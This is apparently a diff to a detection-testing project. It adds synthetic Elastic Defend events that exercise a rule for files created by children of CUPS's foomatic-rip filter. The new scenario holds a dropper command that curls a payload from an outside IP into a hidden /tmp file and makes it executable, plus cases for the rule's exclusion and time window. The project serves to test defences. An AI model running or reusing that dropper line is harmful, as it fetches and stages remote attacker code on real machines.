@@ -19,7 +19,7 @@ from typing import Any
 
 import orjson
 
-from shellwatch.samples.ecs_factory import JAVA, connection, entity_id, execution
+from shellwatch.samples.ecs_factory import JAVA, connection, entity_id, execution, file_event
 
 __all__ = ["SCENARIOS", "SCENARIO_DIR", "build_all"]
 
@@ -121,7 +121,32 @@ class Exec:
         )
 
 
-Event = Conn | Exec
+@dataclass(frozen=True, slots=True)
+class FileWrite:
+    """Process ``pid`` (``executable``), a child of the process ``parent_pid`` started ``parent_ms`` after ``T0``,
+    creates the file ``path``, ``ms`` after ``T0``: an Elastic Defend file event."""
+
+    ms: int
+    pid: int
+    parent_pid: int
+    parent_ms: int
+    event_id: str
+    path: str
+    executable: str
+
+    def doc(self, host: str) -> Doc:
+        return file_event(
+            ts_ms=T0 + self.ms,
+            host_id=host,
+            pid=self.pid,
+            parent_entity_id=entity_id(host, self.parent_pid, str(T0 + self.parent_ms)),
+            event_id=self.event_id,
+            path=self.path,
+            executable=self.executable,
+        )
+
+
+Event = Conn | Exec | FileWrite
 
 
 def children(
@@ -358,6 +383,30 @@ ELASTIC_LOLBIN_REVSHELL = Scenario(
     rules=("execution_shell_via_lolbin_interpreter_linux.toml",),
 )
 
+FOOMATIC = Parent("/usr/lib/cups/filter/foomatic-rip", ["foomatic-rip", "142", "lp", "job", "1", ""])
+DROPPER = sh("curl -so /tmp/.cupsd http://45.155.205.233/x && chmod +x /tmp/.cupsd")
+ELASTIC_CUPSD_FILE = Scenario(
+    "Elastic's File Creation by Cups or Foomatic-rip Child: a crafted print job makes foomatic-rip start a shell, "
+    "whose curl writes a file (a file event, read from the file topic)",
+    {
+        "cups-print-01": [
+            Exec(100_000, 9301, 9300, "cups-exec-sh", "sh", DROPPER, FOOMATIC),
+            FileWrite(100_700, 9302, 9301, 100_000, "cups-file-drop", "/tmp/.cupsd", "/usr/bin/curl"),
+        ],
+        # Ghostscript writing its temporary file under the shell: the rule's own exclusion
+        "cups-print-02": [
+            Exec(100_000, 9401, 9400, "cups-gs-sh", "sh", sh("gs -q -sDEVICE=pdfwrite"), FOOMATIC),
+            FileWrite(100_500, 9402, 9401, 100_000, "cups-gs-file", "/tmp/gs_ab12", "/usr/bin/gs"),
+        ],
+        # the file 12 s after the shell: past the rule's maxspan of 10 s
+        "cups-print-03": [
+            Exec(100_000, 9501, 9500, "cups-late-sh", "sh", DROPPER, FOOMATIC),
+            FileWrite(112_000, 9502, 9501, 100_000, "cups-late-file", "/tmp/.cupsd", "/usr/bin/curl"),
+        ],
+    },
+    rules=("execution_cupsd_foomatic_rip_file_creation.toml",),
+)
+
 SCENARIOS: dict[str, Scenario] = {
     "log4shell-callback": LOG4SHELL_CALLBACK,
     "confluence-ognl": CONFLUENCE_OGNL,
@@ -369,6 +418,7 @@ SCENARIOS: dict[str, Scenario] = {
     "elastic-java-revshell": ELASTIC_JAVA_REVSHELL,
     "elastic-jndi-ldap": ELASTIC_JNDI_LDAP,
     "elastic-lolbin-revshell": ELASTIC_LOLBIN_REVSHELL,
+    "elastic-cupsd-file": ELASTIC_CUPSD_FILE,
 }
 VENDORED = Path(__file__).parents[1] / "rules" / "elastic"
 
